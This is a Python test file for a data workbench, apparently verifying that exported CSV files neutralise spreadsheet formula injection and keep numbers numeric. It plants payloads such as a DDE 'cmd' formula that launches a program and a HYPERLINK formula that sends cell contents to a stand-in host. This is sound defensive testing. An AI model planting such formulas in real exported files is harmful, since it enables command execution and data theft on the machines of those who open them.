"""Spreadsheet formulas in data: in every CSV that leaves they are text, and numbers stay numbers."""

import csv
import io
import os
import random
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from workbench.evidence.table import to_csv
from workbench.words import say

REPOSITORY = Path(__file__).parents[2]
SEED = 20_262
COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.invalid?x="&A1,"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "IMPORTXML(A1)",
    "A1",
    "1+1",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "'\n",
    "x;",
    "x;\t",
    "x\n",
    "x\r\n",
    'x";',
    'x","',
    "x\t",
    '"',
    '",',
)
FORMULAS = [f"{before}{sign}{command}" for before in BEFORE for sign in SIGNS for command in COMMANDS]
NUMBERS = ("-5", "+3.25", "-1,234.5", "-12.5%", "-1.5e-05", "+1E6", "0", "-0.0")
WORDS = ("a-b", "x=1", "2020-01-01", "[0.1, 0.5)", "-", "—", "A; B", "3 - 4", "a@b", "age: -5 to 3")
_LIVE = re.compile(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]")
_DIGITS = r"[\s\"]*(?:[+-]?\d[\d,]*(?:\.\d+)?(?:[eE][+-]?\d+)?%?|[-－])[\s\"]*"
_NUMBER, _FIRST = re.compile(rf"{_DIGITS}$"), re.compile(rf"{_DIGITS}(?:,|$)")


def live(content: str) -> list[str]:
    """Return the cells a spreadsheet would work out, whichever delimiter its country has.

    With another delimiter a row begins with our first column: a number and a comma there are no formula.
    """
    out = []
    for delimiter in (",", ";", "\t"):
        number = _NUMBER if delimiter == "," else _FIRST
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            for cell in row:
                is_number = (number if cell is row[0] else _NUMBER).match(cell)
                out += [cell] if _LIVE.match(cell) and not is_number else []
    return out


def _table(rng: random.Random, rows: int) -> pd.DataFrame:
    table = pd.DataFrame({"plain": [rng.choice(FORMULAS) for _ in range(rows)]})
    table["category"] = pd.Categorical([rng.choice(FORMULAS) for _ in range(rows)])
    table[rng.choice(FORMULAS)] = [
        rng.choice((rng.choice(FORMULAS), rng.random() - 0.5, None, True)) for _ in range(rows)
    ]
    table["sentence"] = [say("{x}", x=rng.choice(FORMULAS)) for _ in range(rows)]
    table["words"] = [rng.choice(WORDS) for _ in range(rows)]
    table["typed number"] = [rng.choice(NUMBERS) for _ in range(rows)]
    table["number"] = [rng.uniform(-1e6, 1e6) for _ in range(rows)]
    table["whole"] = [rng.randrange(-(10**6), 10**6) for _ in range(rows)]
    return (
        table.set_index(pd.Index([rng.choice(FORMULAS) for _ in range(rows)], name="=A1"))
        if rng.random() < 0.3
        else table
    )


def _tried(path: Path, tables: int) -> tuple[int, list]:
    rng, wrong, n = random.Random(SEED), [], 0
    for _ in range(tables):
        table = _table(rng, 40)
        to_csv(table, path)
        wrong += live(path.read_text(encoding="utf-8"))
        back = pd.read_csv(path, float_precision="round_trip")
        for name in ("number", "whole"):
            wrong += [name] if not np.array_equal(back[name], table[name].to_numpy()) else []
        texts = pd.read_csv(path, dtype=str, keep_default_na=False)
        for name in ("typed number", "words"):
            wrong += [v for v, w in zip(texts[name], table[name], strict=True) if v != w]
        n += table.size
    return n, wrong


def test_no_cell_of_a_table_is_a_formula_and_numbers_stay_numbers(measured, tmp_path):
    n, wrong = _tried(tmp_path / "a.csv", 25)
    measured("cells of CSV files, formulas planted", n, wrong, SEED)


def test_every_formula_by_itself_is_made_text(measured, tmp_path):
    to_csv(pd.DataFrame({"x": FORMULAS, "y": range(len(FORMULAS))}), tmp_path / "a.csv")
    content = (tmp_path / "a.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == len(FORMULAS) + 1 and all(len(row) == 2 for row in rows)
    measured("formulas by themselves", len(FORMULAS), live(content))


def test_what_is_looked_for_is_seen():
    assert live("a,b\n=1+1,2\n") and live("a,b\nx;=1+1,2\n") and live('a,b\n1,"x\n=1+1"\n') and live("a\n＝A1\n")
    assert live("a,b\n-5,x\n-1.5e-05,-\n") == []


@pytest.mark.whole
def test_no_formula_in_many_tables(measured, tmp_path):
    n, wrong = _tried(tmp_path / "a.csv", 1500)
    measured("cells of CSV files, formulas planted, many tables", n, wrong, SEED)


@pytest.mark.whole
def test_no_formula_in_any_file_a_study_leaves(measured, tmp_path):
    """A file whose categories, labels and headers are formulas, through intake, panel, profile, model and validation."""
    shutil.copytree(REPOSITORY / "notebooks", tmp_path / "notebooks")
    (tmp_path / "params").mkdir()
    rng, evil = random.Random(SEED), [f"{s}{c}" for s in SIGNS[:4] for c in COMMANDS]
    columns = [{"name": "loan_id", "type": "text", "role": "key"}]
    columns += [
        {"name": f"kind_{i}", "source": evil[i], "type": "category", "description": evil[i], "unit": evil[i]}
        for i in range(4)
    ]
    columns.append({"name": "labelled", "type": "category", "values": dict(zip("abc", evil[4:7], strict=True))})
    columns.append({"name": "amount", "type": "number", "unit": evil[8], "minimum": 0, "breach": "warning"})
    columns.append(
        {"name": "bad", "type": "category", "role": "outcome", "known": "after", "values": {"0": "0", "1": "1"}}
    )
    with (tmp_path / "f.csv").open("w", newline="") as file:
        out = csv.writer(file)
        out.writerow(["loan_id", *evil[:4], "labelled", "amount", "bad"])
        for i in range(3000):
            kinds = [rng.choice(evil[6 * k : 6 * k + 6]) for k in range(4)]
            amount = rng.randrange(9000)
            bad = int(rng.random() < (0.1 if amount < 4000 else 0.4))
            out.writerow([f"={i}", *kinds, rng.choice("abc"), "=1+1" if i % 50 == 0 else amount, bad])
    given = {"name": "f", "title": evil[0], "as_of": "2020-01-01", "event_value": "1", "columns": columns}
    (tmp_path / "params" / "f.yaml").write_text(yaml.safe_dump(given))
    intake = {"portfolio": "own_files", "files": {"account": "f.csv"}, "contracts": {"account": "params/f.yaml"}}
    steps = {"portfolios/intake": intake, "panel/build": {"as_of_from": "", "as_of_to": ""}, "customers/profile": {}}
    steps |= {"models/development": {"model": "pd"}, "validation/battery": {"model": "pd"}}
    study = {"title": evil[1], "defaults": {"seed": 42, "sample_rows": 0}, "steps": steps}
    (tmp_path / "params" / "formulas.yaml").write_text(yaml.safe_dump(study))
    command = [sys.executable, "-m", "workbench.cli", "run", "params/formulas.yaml"]
    env = {**os.environ, "WORKBENCH_HOME": str(tmp_path)}
    done = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=580)
    assert done.returncode == 0, done.stdout + done.stderr
    files = [p for p in tmp_path.rglob("*") if p.suffix in (".csv", ".tsv", ".xlsx", ".xls") and p.name != "f.csv"]
    assert len(files) > 20 and not [p for p in files if p.suffix != ".csv"]
    texts = {p.name: p.read_text(encoding="utf-8") for p in files}
    assert sum("cmd|" in text for text in texts.values()) >= 3  # the formulas are there, as text
    measured(
        "CSV files of a study made of formulas", len(files), [(n, c) for n, t in texts.items() for c in live(t)], SEED
    )
